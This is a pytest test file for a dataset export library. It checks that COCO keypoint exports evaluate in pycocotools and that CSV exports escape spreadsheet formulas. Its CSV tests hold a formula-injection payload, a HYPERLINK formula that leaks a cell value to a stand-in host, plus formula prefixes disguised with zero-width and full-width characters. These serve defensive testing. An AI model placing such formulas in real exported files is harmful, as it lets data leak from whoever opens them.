"""Exports that other tools accept: pycocotools reads and evaluates the COCO export; CSV is safe to open."""

from __future__ import annotations

import contextlib
import csv
import io
import json
from pathlib import Path

import av
import numpy as np
import pytest
from PIL import Image
from pycocotools.coco import COCO
from pycocotools.cocoeval import COCOeval

from molmo_nb_utils.dataset import (
    ItemResult,
    export_coco,
    export_csv,
    export_points_csv,
    load_dataset,
    results_from_answers,
    safe_cell,
    score_results,
    worked_answer,
)
from molmo_nb_utils.grounding import Point
from molmo_nb_utils.paths import INPUT_DIR

pycocotools = pytest.importorskip("pycocotools")


@pytest.fixture(scope="module")
def sample():
    items = [
        i
        for i in load_dataset(INPUT_DIR / "coin_table.json")
        if i.key.startswith("coin_table/") or i.key == "moving_objects.mp4"
    ]
    truth = results_from_answers(
        items, {i.key: worked_answer(i, tag="tracks" if i.kind == "video" else "points") for i in items}
    )
    return items, truth


def _evaluate(gt_path: Path, dt_path: Path) -> np.ndarray:
    with contextlib.redirect_stdout(io.StringIO()):
        gt = COCO(str(gt_path))
        dt = gt.loadRes(json.loads(dt_path.read_text())["annotations"])
        evaluation = COCOeval(gt, dt, "keypoints")
        evaluation.params.kpt_oks_sigmas = np.array([0.1])  # one keypoint, not COCO's 17
        evaluation.evaluate()
        evaluation.accumulate()
        evaluation.summarize()
    return evaluation.stats


def test_pycocotools_loads_the_export_and_evaluates_keypoints(sample, tmp_path):
    items, truth = sample
    gt_path = export_coco(items, truth, tmp_path / "truth.json")
    coco = json.loads(gt_path.read_text())
    assert all({"bbox", "area", "segmentation", "keypoints"} <= set(a) for a in coco["annotations"])
    assert all(a["area"] > 0 and len(a["segmentation"][0]) == 8 for a in coco["annotations"])
    # The truth against itself: every point found where it is. Average precision and recall 1.
    same = _evaluate(gt_path, export_coco(items, truth, tmp_path / "same.json"))
    assert same[0] == pytest.approx(1.0) and same[5] == pytest.approx(1.0)
    # Answers that miss coin 2 of every table photo: the recall drops below 1.
    answers = {i.key: worked_answer(i, drop=[2]) for i in items if i.kind == "image"}
    missed = results_from_answers(items, answers) + [t for t in truth if t.kind == "video"]
    worse = _evaluate(gt_path, export_coco(items, missed, tmp_path / "missed.json"))
    assert 0 < worse[5] < 1.0 and worse[0] < 1.0


def _video(path: Path, fps: int, frames: int) -> Path:
    with av.open(str(path), "w") as container:
        stream = container.add_stream("libx264" if path.suffix == ".mp4" else "mpeg4", rate=fps)
        stream.width, stream.height, stream.pix_fmt = 64, 48, "yuv420p"
        for k in range(frames):
            pixels = np.full((48, 64, 3), 40 * k, dtype=np.uint8)
            container.mux(stream.encode(av.VideoFrame.from_ndarray(pixels, format="rgb24")))
        container.mux(stream.encode())
    return path


def test_every_exported_image_has_its_own_file_name(tmp_path):
    _video(tmp_path / "clip.mp4", fps=1, frames=4)  # 1 fps sampled at 2 fps: frames are shown twice
    _video(tmp_path / "clip.mov", fps=1, frames=4)
    (tmp_path / "clip").mkdir()
    Image.new("RGB", (64, 48)).save(tmp_path / "clip" / "000000.jpg")
    items = load_dataset(tmp_path)
    results = results_from_answers(items, {i.key: "There are none." for i in items})
    video = next(r for r in results if r.key == "clip.mp4")
    assert len(video.frame_indices) > len(set(video.frame_indices))  # the case that collided
    coco = json.loads(export_coco(items, results, tmp_path / "coco.json").read_text())
    names = [image["file_name"] for image in coco["images"]]
    assert len(names) == len(set(names)) == 1 + 2 * len(video.times)
    assert "clip/000000.jpg" in names and "clip.mp4/000000.jpg" in names and "clip.mov/000000.jpg" in names
    ids = [image["id"] for image in coco["images"]]
    assert len(ids) == len(set(ids))


def _result(key: str, answer: str, prompt: str = "Point.") -> ItemResult:
    return ItemResult(
        key, "image", prompt, {}, answer=answer, points=(Point(1, 5.0, 5.0, image=1),), size=(40, 30)
    )


def test_csv_cells_never_run_as_formulas_and_numbers_stay_numbers(tmp_path):
    for name in ("=cmd.png", "plain.png", "@sum.png"):
        Image.new("RGB", (40, 30)).save(tmp_path / name)
    items = load_dataset(tmp_path)
    by_key = {i.key: i for i in items}
    results = [
        _result("=cmd.png", '=HYPERLINK("http://example.com/?leak="&A1,"click")'),
        _result("@sum.png", "+SUM(1,2)", prompt="-3"),
        _result("plain.png", "\tTAB then -x", prompt="-x"),
    ]
    items = [by_key["=cmd.png"], by_key["@sum.png"], by_key["plain.png"]]
    items = [
        type(i)(i.key, i.path, i.kind, count=2 if i.key == "=cmd.png" else None) for i in items
    ]  # a true count of 2 for one answer of 1 point: a count error of -1
    score = score_results(items, results)
    with open(export_csv(score, results, tmp_path / "items.csv"), newline="", encoding="utf-8") as file:
        rows = {row["key"]: row for row in csv.DictReader(file)}
    assert list(rows) == ["'=cmd.png", "'@sum.png", "plain.png"]
    assert rows["'=cmd.png"]["answer"] == """'=HYPERLINK("http://example.com/?leak="&A1,"click")"""
    assert rows["'=cmd.png"]["count_error"] == "-1"  # a number: left as it is
    assert rows["'@sum.png"]["answer"] == "'+SUM(1,2)" and rows["'@sum.png"]["prompt"] == "-3"
    assert rows["plain.png"]["answer"] == "'\tTAB then -x" and rows["plain.png"]["prompt"] == "'-x"
    with open(
        export_points_csv(items, results, tmp_path / "points.csv"), newline="", encoding="utf-8"
    ) as file:
        keys = [row["key"] for row in csv.DictReader(file)]
    assert keys == ["'=cmd.png", "'@sum.png", "plain.png"]


@pytest.mark.parametrize(
    "text",
    [
        " =1+1",  # a leading space: an import that trims spaces runs it
        "\n=1+1",  # a leading newline
        "\r\n@SUM(A1)",
        "\u3000=1+1",  # an ideographic (full-width) space
        "\u200b=1+1",  # an invisible zero-width space
        "\ufeff-2+3",  # a byte-order mark
        '\uff1dHYPERLINK("http://example.com")',  # full-width ＝, as an East Asian input method writes it
        "\uff0bSUM(1,2)",  # full-width ＋
        "\uff0d1+1",  # full-width －
        "\uff20SUM(1,2)",  # full-width ＠
        "\0=1+1",  # NUL (ASVS)
        "\t",
    ],
)
def test_a_formula_behind_spaces_newlines_or_in_full_width_is_neutralised_too(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-3", "+1.5", "plain text", "a=b", " note", "", 2, -1.25, None])
def test_numbers_and_plain_texts_are_written_as_they_are(value):
    assert safe_cell(value) == value


def test_the_points_csv_holds_only_items_still_in_the_dataset(tmp_path):
    for name in ("a.png", "b.png", "gone.png"):
        Image.new("RGB", (40, 30)).save(tmp_path / name)
    items = load_dataset(tmp_path)
    results = [_result(i.key, "...") for i in items]
    kept = [i for i in items if i.key != "gone.png"]
    with open(
        export_points_csv(kept, results, tmp_path / "points.csv"), newline="", encoding="utf-8"
    ) as file:
        keys = [row["key"] for row in csv.DictReader(file)]
    assert keys == ["a.png", "b.png"]
